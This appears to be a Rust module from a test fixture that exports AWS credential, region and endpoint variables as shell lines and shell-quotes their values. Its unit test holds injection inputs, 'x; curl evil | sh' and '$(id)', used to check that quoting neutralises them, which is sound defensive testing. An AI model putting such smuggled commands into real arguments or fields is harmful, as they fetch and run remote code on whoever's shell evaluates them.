//! The environment by which a process calls as a caller of a fixture.

use std::fmt::Write as _;

/// The variables that would lead an AWS SDK elsewhere, or to other credentials.
pub(super) const MISLEADING: &[&str] = &[
    "AWS_PROFILE",
    "AWS_DEFAULT_PROFILE",
    "AWS_ENDPOINT_URL",
    "AWS_IGNORE_CONFIGURED_ENDPOINT_URLS",
    "AWS_SECURITY_TOKEN",
    "AWS_CREDENTIAL_EXPIRATION",
    "AWS_ROLE_ARN",
    "AWS_WEB_IDENTITY_TOKEN_FILE",
    "AWS_CONTAINER_CREDENTIALS_FULL_URI",
    "AWS_CONTAINER_CREDENTIALS_RELATIVE_URI",
    "AWS_USE_FIPS_ENDPOINT",
    "AWS_USE_DUALSTACK_ENDPOINT",
];

/// A caller, as another process knows it.
#[allow(clippy::struct_field_names)] // the names of AWS
#[derive(Clone, Debug)]
pub(super) struct Access {
    pub(super) endpoint: String,
    pub(super) region: String,
    pub(super) access_key_id: String,
    pub(super) secret_access_key: String,
    pub(super) session_token: Option<String>,
}

impl Access {
    /// Returns the variables and their values. A user has no session token.
    pub(super) fn variables(&self) -> Vec<(&'static str, &str)> {
        let mut all = vec![
            ("AWS_ENDPOINT_URL_KMS", self.endpoint.as_str()),
            ("AWS_ENDPOINT_URL_STS", &self.endpoint),
            // Version 1 of the AWS CLI and boto3 read the second variable.
            ("AWS_REGION", &self.region),
            ("AWS_DEFAULT_REGION", &self.region),
            ("AWS_ACCESS_KEY_ID", &self.access_key_id),
            ("AWS_SECRET_ACCESS_KEY", &self.secret_access_key),
        ];
        all.extend(self.session_token.as_deref().map(|it| ("AWS_SESSION_TOKEN", it)));
        all
    }

    /// Returns the lines that set the variables in a shell, and unset those that would mislead.
    pub(super) fn lines(&self) -> String {
        let mut text = String::new();
        for (name, value) in self.variables() {
            let _ = writeln!(text, "export {name}={}", quoted(value));
        }
        let token = if self.session_token.is_none() { "AWS_SESSION_TOKEN " } else { "" };
        let _ = writeln!(text, "unset {token}{}", MISLEADING.join(" "));
        text
    }
}

/// Quotes a value for a shell, if it has other characters than those of credentials, Regions and URLs.
fn quoted(value: &str) -> String {
    let is_plain = |it: char| it.is_ascii_alphanumeric() || "/+=._:-".contains(it);
    if !value.is_empty() && value.chars().all(is_plain) {
        return value.to_owned();
    }
    format!("'{}'", value.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::quoted;

    #[test]
    fn a_value_with_other_characters_is_quoted_for_a_shell() {
        assert_eq!(quoted("http://127.0.0.1:80"), "http://127.0.0.1:80");
        assert_eq!(quoted("x; curl evil | sh"), "'x; curl evil | sh'");
        assert_eq!(quoted("it's $(id)"), r"'it'\''s $(id)'");
        assert_eq!(quoted("http://[::1]:80"), "'http://[::1]:80'");
    }
}
